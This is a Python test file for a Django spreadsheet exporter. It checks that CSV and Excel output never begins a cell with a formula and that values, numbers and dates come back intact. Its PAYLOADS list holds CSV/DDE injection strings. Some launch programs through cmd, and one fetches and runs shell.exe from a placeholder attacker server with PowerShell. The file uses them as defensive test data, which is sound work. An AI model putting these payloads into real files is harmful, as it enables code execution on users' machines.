"""The one writer: no cell starts a formula, everything comes back as it was."""

import csv
from contextlib import closing
from datetime import UTC, date, datetime
from decimal import Decimal
from io import BytesIO, StringIO

import pytest
from django.http import FileResponse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from core.documents.sheets import disarmed, original, write_csv, write_xlsx

# Closing an answer ends a request, and the end of a request looks at the connection.
pytestmark = pytest.mark.django_db

# The payloads of PayloadsAllTheThings, "CSV Injection", and some of our own.
PAYLOADS = [
    "=", "+", "–", "@", 'DDE ("cmd";"/C calc";"!A0")A0', "@SUM(1+1)*cmd|' /C calc'!A0", "=2+5+cmd|' /C calc'!A0",
    "=cmd|' /C calc'!'A1'", "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    "=AAAA+BBBB-CCCC&\"Hello\"/12345&cmd|'/c calc.exe'!A", "=cmd|'/c calc.exe'!A*cmd|'/c calc.exe'!A",
    "=         cmd|'/c calc.exe'!A", "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=rundll321234567890abcdefghijklmnopqrstuvwxyz|'URL.dll,OpenURL calc.exe'!A",
    "=    C    m D                    |        '/        c       c  al  c      .  e                  x       e  '   !   A",
    '=IMPORTXML("http://[ATTACKER.DOMAIN.TLD]/csv", "//a/@href")',
    "-1+1", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1", "\ufeff=1", "＝1+1", "'=1", "''=1", "+44 20 7946 0000", "-", "@okafor",
]  # fmt: skip
DANGEROUS = tuple("=+-@\t\r\n＝＋－＠")


def whole(response: FileResponse) -> bytes:
    """What a browser would save."""
    with closing(response):
        return b"".join(response)  # type: ignore[arg-type]  # a synchronous answer


def _read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(StringIO(content.decode("utf-8-sig"), newline="")))


def test_no_payload_starts_a_cell_and_each_comes_back() -> None:
    rows = _read_csv(whole(write_csv(["Name", "=Note"], [[text, "x"] for text in PAYLOADS])))
    assert rows[0] == ["Name", "'=Note"]
    written = [row[0] for row in rows[1:]]
    assert not [cell for cell in written if cell.lstrip(" \u00a0\ufeff").startswith(DANGEROUS)]
    assert [original(cell) for cell in written] == PAYLOADS


def test_the_same_holds_in_excel_and_numbers_stay_numbers() -> None:
    when = datetime(2026, 7, 1, 8, 30, tzinfo=UTC)
    values = [-3, 91.4, Decimal("2.50"), date(2026, 11, 20), when, None, True]
    content = whole(write_xlsx(["Name", *"abcdefg"], [[text, *values] for text in PAYLOADS], title="10A/B: [x]"))
    sheet = load_workbook(BytesIO(content)).active
    assert sheet is not None
    rows = list(sheet.iter_rows(min_row=2))
    assert {row[0].data_type for row in rows} == {"s"}
    assert [original(str(row[0].value)) for row in rows] == PAYLOADS
    assert not [row for row in rows if str(row[0].value).lstrip().startswith(DANGEROUS)]
    assert [cell.value for cell in rows[0][1:5]] == [-3, 91.4, 2.5, datetime(2026, 11, 20)]
    assert rows[0][5].value == datetime(2026, 7, 1, 9, 30)  # in London
    assert rows[0][7].value == "Yes"
    assert sheet.title == "10A B   x "


def test_csv_writes_numbers_and_dates_plainly() -> None:
    rows = _read_csv(whole(write_csv(["a"] * 4, [[-3, Decimal("2.50"), date(2026, 11, 20), None]])))
    assert rows[1] == ["-3", "2.50", "2026-11-20", ""]


def test_rows_are_read_while_the_request_still_has_its_name() -> None:
    read: list[int] = []

    def rows() -> object:
        for number in range(3):
            read.append(number)
            yield [number]

    response = write_csv(["n"], rows())  # type: ignore[arg-type]  # a generator of rows
    assert read == [0, 1, 2]
    response.close()
    assert response["Content-Disposition"] == 'attachment; filename="export.csv"'


@given(st.text())
def test_any_text_comes_back_and_none_starts_a_formula(text: str) -> None:
    written = disarmed(text)
    assert original(written) == text
    assert not written.startswith(DANGEROUS)


@pytest.mark.parametrize("name", ["O'Neill", "'Ali", "’Ali", "Zara"])
def test_names_with_apostrophes_are_left_alone(name: str) -> None:
    assert disarmed(name) == name
    assert original(name) == name
